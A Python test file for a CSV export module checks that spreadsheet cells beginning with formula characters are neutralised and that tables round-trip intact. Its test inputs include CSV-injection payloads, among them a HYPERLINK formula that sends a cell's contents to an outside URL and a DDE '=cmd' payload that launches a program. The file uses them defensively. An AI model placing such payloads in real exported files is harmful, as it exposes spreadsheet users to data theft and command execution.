"""Tables come back as they were written, whatever people wrote, and no cell of text begins as a formula does."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from roomserver.programme.exports.table import BYTE_ORDER_MARK, Cell, csv_of, plain, safe

RUNS = "=+-@\t\n＝＋－＠﹢﹣﹦﹫\N{MINUS SIGN}"
PASSED_OVER = " \u00a0\u3000\u200b\ufeff\u202e\"'`“”‘’«»"
TEXTS = st.text(
    st.one_of(st.sampled_from(RUNS + PASSED_OVER + ";,|"), st.characters(codec="utf-8", exclude_categories=["Cc"])),
    max_size=12,
)
BORDERS = ";\t\n"


def read(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(
        csv.reader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK), newline=""), delimiter=delimiter, strict=True)
    )


def runs(cell: str) -> bool:
    """Whether a spreadsheet could take it for a formula, however it reads what stands before."""
    return cell.lstrip(' \u00a0\u3000\u200b\ufeff\u202e"`“”‘’«»')[:1] in set(RUNS)


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://example.net?"&A1,"Open")',
        "+1+1",
        "-2+3",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "\u00a0=1+1",
        "\u3000＝1+1",
        "＋1",
        "\u200b=1+1",
        '"=1+1"',
        "“=1+1",
        "\n=1+1",
        "=cmd|' /C calc'!A0",
        "\u221215",
    ],
)
def test_what_would_run_stays_text(text: str) -> None:
    assert safe(text).startswith("'")
    [[cell]] = read(csv_of((text,), ()))
    assert not runs(cell)
    assert plain(cell) == text.replace("\r", "\n")


@pytest.mark.parametrize(
    "text", ["a;=1+1;b", "a;-1", "first\n=1+1", "a\t=1+1", 'a;"=1+1"', "a; =1+1"], ids=lambda text: repr(text)
)
def test_nor_does_it_where_a_spreadsheet_divides_cells_otherwise(text: str) -> None:
    line = csv_of((), [(text, "z")]).removeprefix(BYTE_ORDER_MARK).splitlines()
    cells = [cell for one in line for part in one.split("\t") for cell in part.split(";")]
    assert not [cell for cell in cells if runs(cell)]


@given(TEXTS)
def test_every_text_comes_back(text: str) -> None:
    assert plain(safe(text)) == text


@given(TEXTS)
def test_no_part_of_a_text_begins_as_a_formula(text: str) -> None:
    written = safe(text)
    parts = [written]
    for border in BORDERS:
        parts = [part for each in parts for part in each.split(border)]
    starts = [written, *(part for part in parts if part)]
    assert not [part for part in starts if runs(part) and part not in BORDERS]


@given(
    st.lists(st.lists(st.one_of(TEXTS, st.integers(), st.none(), st.booleans()), min_size=2, max_size=4), max_size=4)
)
def test_every_table_comes_back(rows: list[list[Cell]]) -> None:
    [header, *found] = read(csv_of(("one", "two"), rows))
    assert header == ["one", "two"]
    assert [[plain(cell) for cell in row] for row in found] == [[_said(cell) for cell in row] for row in rows]


def _said(cell: Cell) -> str:
    if isinstance(cell, bool):
        return str(cell).lower()
    return "" if cell is None else str(cell)


def test_numbers_stay_numbers() -> None:
    assert read(csv_of(("a", "b", "c"), [(-5, -0.5, 12)]))[1] == ["-5", "-0.5", "12"]


def test_it_begins_with_a_mark_and_lines_end_as_the_format_says() -> None:
    text = csv_of(("name", "line"), [("Mei", 'two\r\nlines, "quoted"')])
    assert text == '\ufeffname,line\r\nMei,"two\nlines, ""quoted"""\r\n'


def test_marks_that_nobody_sees_and_nothing_can_print_are_left_out() -> None:
    assert safe("a\x00b\x1bc") == "abc"
